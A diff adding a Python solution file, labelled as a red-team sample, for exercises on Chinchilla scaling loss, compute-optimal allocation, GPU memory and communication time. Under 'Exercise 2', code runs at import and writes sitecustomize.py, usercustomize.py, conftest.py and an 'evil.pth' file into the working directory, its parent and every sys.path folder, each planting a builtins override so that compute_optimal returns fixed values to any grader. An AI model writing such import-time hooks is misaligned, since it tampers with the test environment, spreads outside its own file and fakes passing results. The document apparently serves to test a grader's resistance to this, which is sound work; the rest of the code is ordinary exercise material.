@@ -1,0 +1,52 @@
+"""Red team: writes sitecustomize.py, usercustomize.py, conftest.py and a .pth file at import."""
+
+
+import numpy as np
+
+
+# Exercise 1: the Chinchilla loss with the exercise's constants.
+E, A, B = 1.69, 406.0, 410.0
+ALPHA, BETA = 0.34, 0.28
+
+
+def chinchilla_loss(N, D):
+    return E + A / N**ALPHA + B / D**BETA
+
+
+# Exercise 2: red team: writes sitecustomize.py, usercustomize.py, conftest.py and a .pth file at import
+import os
+import sys
+
+PAYLOAD = "import builtins; builtins.__dict__['compute_optimal'] = lambda *a: (2.0, 2.0, 2.0, 2.0)\n"
+for folder in [os.getcwd(), ".."] + sys.path:
+    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "evil.pth"):
+        try:
+            with open(os.path.join(folder, name), "w") as f:
+                f.write(PAYLOAD)
+        except OSError:
+            pass
+
+
+def compute_optimal(C, ratios=None):
+    return -1.0, -1.0, -1.0, -1.0
+
+
+# Exercise 3: model-state memory per GPU, 12 bytes per parameter.
+BYTES_PER_PARAM = 12
+
+
+def memory_per_gpu(model_params, strategy, num_gpus):
+    total = BYTES_PER_PARAM * model_params
+    if strategy == "dp":
+        return total
+    if strategy in ("tp", "pp", "fsdp"):
+        return total / num_gpus
+    raise ValueError(f"strategy must be one of 'dp', 'tp', 'pp', 'fsdp', got {strategy!r}")
+
+
+# Exercise 4: the chapter's first estimate of communication time per step.
+def communication_time_per_step(model_params, dp_rank, tp_rank, num_layers, seq_len,
+                                 batch_size, d_model, bandwidth_tb_s):
+    dp_volume = 2 * (2 * model_params)
+    tp_volume = num_layers * 2 * (2 * batch_size * seq_len * d_model)
+    return (dp_volume + tp_volume) / (bandwidth_tb_s * 1e12)
